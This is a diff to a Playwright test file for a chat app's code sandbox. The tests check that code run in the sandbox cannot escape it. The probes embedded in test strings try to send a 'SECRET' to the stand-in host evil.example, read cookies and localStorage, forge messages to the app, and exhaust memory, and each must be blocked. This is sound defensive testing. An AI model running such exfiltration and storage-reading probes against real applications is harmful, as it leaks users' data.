@@ -27,9 +27,12 @@ const output = (answer: Locator, language: string) => answer.getByLabel(`Output 
 const status = (answer: Locator) => answer.locator('.code-run-status');
 
 async function setTimeLimit(page: Page, chat: ChatPage, seconds: number): Promise<void> {
-  await chat.openModelSettings();
-  await page.getByText('Code settings').click();
-  await page.getByLabel('Time limit (seconds)').fill(String(seconds));
+  const field = page.getByLabel('Time limit (seconds)');
+  if (!(await field.isVisible())) {
+    await chat.openModelSettings();
+    await page.getByText('Code settings').click();
+  }
+  await field.fill(String(seconds));
 }
 
 test('a JavaScript block runs: printed lines, errors and the returned value appear under it', async ({ page, chat }) => {
@@ -89,7 +92,8 @@ test('an endless loop is ended at the time limit while the app stays responsive;
 });
 
 /**
- * Each probe prints "<name> blocked <error>" when the sandbox refuses, or "<name> LEAKED <what it got>" when it doesn't.
+ * Each probe prints "<name> blocked <error>" when the sandbox refuses, or "<name> LEAKED <what it got>" when it doesn't;
+ * a forged message on the worker's channel is posted and must change nothing (the run goes on to the last probe).
  * The app's own origin is written into the code, since the sandbox can't learn it.
  */
 function escapeProbes(appOrigin: string): string {
@@ -123,34 +127,44 @@ await probe('indexeddb', () => new Promise((resolve, reject) => {
 await probe('cookie', () => document.cookie);
 await probe('local-storage', () => localStorage.getItem('sensa.preferences'));
 await probe('parent-message', () => parent.postMessage({ type: 'done', id: 'run-1', ok: true, value: 'forged' }, '*'));
-await probe('worker-channel', () => self.postMessage({ type: 'done', ok: true, value: 'forged' }));
+// The worker's own channel is open, but the page listens only on a private port: this must not end the run.
+self.postMessage({ type: 'done', ok: true, value: 'forged' });
+console.log('worker-channel posted');
 await probe('huge-buffer', () => new ArrayBuffer(4 * 1024 ** 3).byteLength);`;
 }
 
 test('code in the sandbox reaches no network, none of the app storage and no channel to the app', async ({ page, chat, baseURL }) => {
+  // Chromium reports some requests that the policy refused (a sync XHR, a dynamic import) as failed requests: each
+  // must have failed by the sandbox's policy, not by this test's guard, and none may have reached the network.
   const evil: string[] = [];
-  page.context().on('request', (request) => {
-    if (request.url().includes('evil.example')) evil.push(request.url());
+  page.context().on('requestfailed', (request) => {
+    if (request.url().includes('evil.example')) evil.push(`${request.url()} ${request.failure()?.errorText}`);
+  });
+  page.context().on('requestfinished', (request) => {
+    if (request.url().includes('evil.example')) evil.push(`${request.url()} finished`);
   });
   await openEcho(page, chat);
   const appOrigin = new URL(baseURL ?? page.url()).origin;
-  const answer = await answerWith(chat, `${fence('js', escapeProbes(appOrigin))}\n\n${fence('python', "import js\ntry:\n    await js.fetch('https://evil.example/py?q=SECRET')\n    print('py-fetch LEAKED')\nexcept Exception as error:\n    print('py-fetch blocked', type(error).__name__)\ntry:\n    bytearray(4 * 1024 ** 3)\n    print('py-huge LEAKED')\nexcept MemoryError:\n    print('py-huge blocked MemoryError')")}`);
+  const answer = await answerWith(chat, `${fence('js', escapeProbes(appOrigin))}\n\n${fence('python', "import js\ntry:\n    await js.fetch('https://evil.example/py?q=SECRET')\n    print('py-fetch LEAKED')\nexcept Exception as error:\n    print('py-fetch blocked', type(error).__name__)\ntry:\n    bytearray(2 ** 31 - 1)\n    print('py-huge LEAKED')\nexcept MemoryError:\n    print('py-huge blocked MemoryError')\nchunks = []\ntry:\n    for _ in range(40):\n        chunks.append(bytearray(10 ** 8))\n    print('py-growth LEAKED')\nexcept MemoryError:\n    print('py-growth blocked MemoryError', len(chunks) < 11)")}`);
   await answer.getByRole('button', { name: 'Run this JavaScript code' }).click();
   const shown = output(answer, 'JavaScript');
   await expect(status(answer).first()).toContainText('Finished', { timeout: 30_000 });
   const lines = (await shown.innerText()).trim().split('\n');
   const names = ['fetch-outside', 'fetch-app', 'xhr-outside', 'websocket', 'import-remote', 'import-scripts', 'indexeddb', 'cookie', 'local-storage', 'parent-message', 'worker-channel', 'huge-buffer'];
-  expect(lines.map((line) => line.split(' ').slice(0, 2).join(' '))).toEqual(names.map((name) => `${name} blocked`));
+  expect(lines.map((line) => line.split(' ').slice(0, 2).join(' '))).toEqual(names.map((name) => (name === 'worker-channel' ? 'worker-channel posted' : `${name} blocked`)));
   expect(lines.find((line) => line.startsWith('huge-buffer'))).toBe('huge-buffer blocked RangeError');
 
   await answer.getByRole('button', { name: 'Run this Python code' }).click();
   await expect(output(answer, 'Python')).toContainText('py-fetch blocked', { timeout: 120_000 });
   await expect(output(answer, 'Python')).toContainText('py-huge blocked MemoryError');
+  // The default limit is 1 GiB: the growth stops near it, not at wasm's 4 GiB.
+  await expect(output(answer, 'Python')).toContainText('py-growth blocked MemoryError True');
   await expect(output(answer, 'Python')).not.toContainText('LEAKED');
 
   // Nothing forged reached the app, and the app's storage is as it was.
-  await expect(answer.getByText('forged')).toHaveCount(0);
-  expect(evil).toEqual([]);
+  await expect(output(answer, 'JavaScript')).not.toContainText('forged');
+  await expect(status(answer).first()).toHaveText(/^Finished in/);
+  expect(evil.filter((line) => !/ (csp|net::ERR_BLOCKED_BY_CSP)$/.test(line))).toEqual([]);
   const stores = await page.evaluate(async () => (await indexedDB.databases()).map((database) => database.name));
   expect(stores).toContain('sensa');
 });
